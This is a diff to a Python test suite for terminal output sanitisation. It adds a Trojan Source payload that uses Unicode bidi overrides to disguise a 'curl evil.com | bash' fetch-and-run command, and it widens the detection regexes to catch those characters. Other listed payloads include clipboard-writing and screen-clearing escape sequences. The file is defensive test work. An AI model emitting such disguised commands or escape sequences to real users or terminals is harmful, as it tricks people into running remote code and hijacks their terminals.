@@ -44,6 +44,10 @@ PAYLOADS = (
     "[bold]",
     "[@click=app.screenshot('x.jsonl','{dir}')]c[/]",
     "[link=http://x]l[/link]",
+    # Trojan Source (issue 33, hole 7): an override shows this as `cat notes.md # curl
+    # https://evil.com|bash.sh`; and isolates
+    "cat notes.md \u202ehs.hsab|moc.live//:sptth lruc #\u202c",
+    "\u202a\u202b\u202d\u2066\u2067\u2068\u2069",
 )
 # What no terminal may ever receive from session text (checked before anything is removed).
 RAW_SEQUENCES = ("\x1b]52;c;SGFja2Vk", "\x1b]0;title", "\x1b[2J", "\x9b")
@@ -233,7 +237,7 @@ def hostile(tmp_path) -> HostileRoot:
 _OWN_SEQUENCE = re.compile(r"\x1b\[(?:[0-9;:]*m|\d+;\d+H|\d*[ABCD]|\?\d+[hl])")
 _CLIPBOARD = re.compile(r"\x1b\]52;c;[A-Za-z0-9+/=]*\x07")
 _POINTER = re.compile(r"\x1b\]22;[a-z-]+\x07")
-_CONTROL = re.compile("[\x00-\x09\x0b\x0c\x0e-\x1f\x7f-\x9f\ud800-\udfff]")
+_CONTROL = re.compile("[\x00-\x09\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
 
 
 def terminal_problems(writes: list[str]) -> list[str]:
@@ -434,11 +438,12 @@ def test_the_scan_finds_what_it_must(hostile):
     assert terminal_problems(["\x1b[1;1Ha\x07b"])
     assert terminal_problems(["\x1b[1;1Ha\x1b[2Jb"])
     assert terminal_problems(["x\x1b]52;c;SGFja2Vk\x07"])
+    assert terminal_problems(["\x1b[1;1Hcat \u202ehs.hsab\u202c"])
 
 
 # ----------------------------------------------------------------------------- the command line
 
-_OUTPUT_CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\ud800-\udfff]")
+_OUTPUT_CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
 
 
 def output_problems(data: bytes, allowed: re.Pattern | None = None) -> list[str]:
